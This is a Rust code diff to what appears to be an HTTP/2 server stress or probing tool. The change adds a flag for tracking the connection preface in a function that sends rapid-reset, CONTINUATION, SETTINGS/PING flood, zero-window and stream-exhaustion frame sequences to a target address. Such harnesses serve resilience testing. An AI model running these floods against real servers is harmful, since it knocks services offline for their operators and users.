@@ -57,6 +57,9 @@ pub struct ProbeReport {
 struct Conn {
     stream: TcpStream,
     pending: Vec<u8>,
+    /// The preface has been sent.
+    started: bool,
+    /// The next stream the rapid-reset attack opens (its id is `2n + 1`).
     next_stream: u32,
     opened: Instant,
     /// The attack's script for this connection is done; it is only held now.
@@ -84,7 +87,7 @@ pub fn attack(kind: &str, addr: SocketAddr, seconds: u64) -> anyhow::Result<()> 
 
 /// The frames `kind` sends next on `conn`; `None` once it only holds the connection.
 fn next_bytes(kind: &str, conn: &mut Conn, junk: &[u8]) -> Option<Vec<u8>> {
-    let first = conn.next_stream == 0;
+    let first = !std::mem::replace(&mut conn.started, true);
     let mut out = if first {
         let settings: &[u8] = if kind == "zero-window" {
             &ZERO_WINDOW
@@ -105,12 +108,10 @@ fn next_bytes(kind: &str, conn: &mut Conn, junk: &[u8]) -> Option<Vec<u8>> {
             }
         }
         "continuation" if first => {
-            conn.next_stream = 1;
             out.extend(frame(HEADERS, END_STREAM, 1, &get("x", "/")[..2]));
         }
         "continuation" => out.extend(frame(CONTINUATION, 0, 1, junk)),
         "settings" | "ping" => {
-            conn.next_stream = 1;
             for _ in 0..100 {
                 out.extend(match kind {
                     "settings" => frame(SETTINGS, 0, 0, &[]),
@@ -120,7 +121,6 @@ fn next_bytes(kind: &str, conn: &mut Conn, junk: &[u8]) -> Option<Vec<u8>> {
         }
         "zero-window" | "streams" if first => {
             let count = if kind == "streams" { 300 } else { 100 };
-            conn.next_stream = count;
             out.extend(requests(count, "x", "/"));
         }
         _ => return None,
@@ -144,6 +144,7 @@ fn flood(kind: &str, addr: SocketAddr, deadline: Instant, report: &mut AttackerR
                     conns.push(Conn {
                         stream,
                         pending: Vec::new(),
+                        started: false,
                         next_stream: 0,
                         opened: Instant::now(),
                         holding: false,
